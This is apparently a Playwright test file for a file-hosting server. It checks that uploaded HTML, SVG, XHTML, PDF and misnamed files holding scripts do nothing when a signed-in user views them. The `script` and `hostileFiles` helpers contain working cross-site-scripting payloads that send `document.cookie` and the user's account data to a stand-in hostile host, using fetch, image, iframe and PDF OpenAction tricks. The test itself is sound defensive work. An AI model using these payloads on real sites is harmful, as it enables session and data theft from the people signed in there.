import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, describe, it } from 'node:test'
import { useChromium } from '@holdfast/server/testkit/browser/browser'
import { STACKS, type Stack } from '@holdfast/server/testkit/servers/stacks'
import { PASSWORD, type Someone, useWorld } from '@holdfast/server/testkit/servers/world'
import type { BrowserContext, Page } from 'playwright-core'
import { SESSION_COOKIE } from './cookies.ts'

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** All that a script would do to show that it ran, and as whom. */
const script = (site: string, account: string) => `
  document.title = 'it ran'
  document.documentElement.setAttribute('data-ran', 'yes')
  try { localStorage.setItem('ran', 'yes') } catch {}
  try { fetch('${site}/cookie?' + encodeURIComponent(document.cookie), { mode: 'no-cors' }) } catch {}
  try { fetch('${account}').then((r) => r.text()).then((t) => fetch('${site}/stolen?' + t.length, { mode: 'no-cors' })) } catch {}
  new Image().src = '${site}/image'
`

type Files = Record<string, string>

/** One of each kind that browsers have run scripts in, or fetch something for. */
function hostileFiles(site: string, account: string): Files {
  const code = script(site, account)
  const inMarkup = code.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
  const html = `<!DOCTYPE html><html><head><title>page</title><meta http-equiv="refresh" content="0;url=${site}/refresh">
    <link rel="stylesheet" href="${site}/style"><link rel="icon" href="${site}/icon">
    <script>${code}</script><script src="${site}/script.js"></script></head>
    <body onload="${inMarkup}"><img src="${site}/picture" onerror="${inMarkup}">
    <iframe src="${site}/frame"></iframe><object data="${site}/object"></object><embed src="${site}/embed">
    <svg><script>${code}</script></svg><form action="${site}/form"><input autofocus onfocus="${inMarkup}"></form></body></html>`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${inMarkup}"><script><![CDATA[${code}]]></script>
    <image href="${site}/image"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${site}/inner"/></body></foreignObject></svg>`
  const xhtml = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${site}/style.xsl"?>
    <html xmlns="http://www.w3.org/1999/xhtml"><head><title>page</title><script><![CDATA[${code}]]></script></head><body/></html>`
  const pdf = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${site}/pdf"\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(${site}/page)>>>>>>endobj
trailer<</Root 1 0 R>>
${html}`
  return {
    'page.html': html,
    'page.htm': html,
    'PAGE.XHTML': xhtml,
    'drawing.svg': svg,
    'data.xml': xhtml,
    'script.js': code,
    'module.mjs': code,
    'table.csv': html,
    'notes.txt': html,
    'notes.md': html,
    'data.json': html,
    'paper.pdf': pdf,
    'page as.pdf': html,
    'picture.png': html,
    'picture.svgz': svg,
    'film.mp4': html,
    'page.shtml': html,
    'page.mhtml': `MIME-Version: 1.0\nContent-Type: text/html\n\n${html}`,
    'page.hta': html,
    'no extension': html,
    'feed.rss': xhtml,
    'style.xsl': xhtml,
  }
}

describe('files with scripts in them, seen in Chromium by someone signed in', () => {
  const world = useWorld(STACKS[0] as Stack)
  const openBrowser = useChromium({ whole: true })
  let context: BrowserContext
  /** One tab for all: what a file did to it would show at the next. */
  let tab: Page
  let site: Server
  let siteUrl: string
  let ann: Someone
  let files: Files
  /** What was asked of the hostile site. */
  let asked: string[] = []

  before(async () => {
    ann = await world.person({ organizationId: await world.organization({ excluded_extensions: '' }) })
    site = createServer((req, res) => {
      if (req.url === '/control') res.setHeader('content-type', 'text/html').end(files['page.html'])
      else {
        asked.push(req.url ?? '')
        res.end()
      }
    })
    site.listen(0, '127.0.0.1')
    await once(site, 'listening')
    siteUrl = `http://127.0.0.1:${(site.address() as AddressInfo).port}`
    files = hostileFiles(siteUrl, `${world.url}/api/2/person`)
    context = await (await openBrowser()).newContext()
    const { headers } = await world.post('/api/2/session/create', { email: ann.email, password: PASSWORD })
    const value = /=([^;]+)/.exec(headers.get('set-cookie') ?? '')?.[1] ?? assert.fail()
    await context.addCookies([
      { name: SESSION_COOKIE, value, url: world.url, secure: true, httpOnly: true, sameSite: 'Lax' },
    ])
    tab = await context.newPage()
  })
  after(async () => {
    await context.close()
    site.closeAllConnections()
    site.close()
  })

  /** Opens an address and gives all that can be seen of what it did. */
  async function visit(url: string) {
    await tab.goto('about:blank')
    asked = []
    const requests: string[] = []
    const dialogs: string[] = []
    tab.removeAllListeners('request').on('request', (request) => requests.push(request.url()))
    tab.removeAllListeners('dialog').on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    const saved = tab.waitForEvent('download', { timeout: 10_000 }).then(
      () => true,
      () => false,
    )
    // Where a file is to be saved, the page goes nowhere. A film that is none never ends loading.
    const response = await tab.goto(url, { waitUntil: 'commit' }).catch(() => undefined)
    if (response) await tab.waitForLoadState('networkidle', { timeout: 5000 }).catch(() => {})
    const isSaved = response === undefined && (await saved)
    const seen = {
      status: response?.status(),
      isSaved,
      title: await tab.title(),
      ran: await tab.evaluate("document.documentElement.getAttribute('data-ran')").catch(() => null),
      dialogs,
      // The viewer for PDF is made of pages of the browser's own.
      requests: requests.filter((address) => address !== url && /^(https?|data|blob|file):/.test(address)),
    }
    return seen
  }

  it('would be noticed if they ran', async () => {
    const seen = await visit(`${siteUrl}/control`)
    for (const path of ['/style', '/script.js', '/frame', '/image', '/refresh', '/cookie?'])
      assert.ok(asked.includes(path), path)
    assert.ok(seen.requests.length > 5)
  })

  it('do nothing', async () => {
    let shown = 0
    for (const [name, content] of Object.entries(files)) {
      const file = await ann.upload(name, content)
      const seen = await visit(`${world.url}/api/2/files/${ann.rootId}/${file.id}/view`)
      assert.ok(seen.isSaved || seen.status === 200, `${name} is shown or saved: ${JSON.stringify(seen)}`)
      if (!seen.isSaved) shown++
      assert.notEqual(seen.title, 'it ran', name)
      assert.equal(seen.ran, null, name)
      assert.deepEqual(seen.dialogs, [], name)
      assert.deepEqual(seen.requests, [], name)
      assert.deepEqual(asked, [], name)
    }
    assert.ok(shown >= 10, `${shown} of them were shown`)
  })

  it('leave nothing behind', async () => {
    const page = await context.newPage()
    // Of the same origin, and not shut off from it as stored files are.
    const response = (await page.goto(`${world.url}/api/2/person`)) ?? assert.fail()
    assert.equal(((await response.json()) as { id: number }).id, ann.id, 'the session is there to be abused')
    assert.equal(await page.evaluate('localStorage.length'), 0)
    assert.equal(await page.evaluate('document.cookie'), '')
    await page.close()
  })

  it('do not keep pictures from being shown', async () => {
    const picture = await ann.upload('dot.png', new Uint8Array(Buffer.from(PNG, 'base64')))
    const page = await context.newPage()
    await page.goto(`${world.url}/api/2/files/${ann.rootId}/${picture.id}/view`)
    assert.equal(await page.evaluate('document.images[0].naturalWidth'), 1)
    await page.close()
  })
})
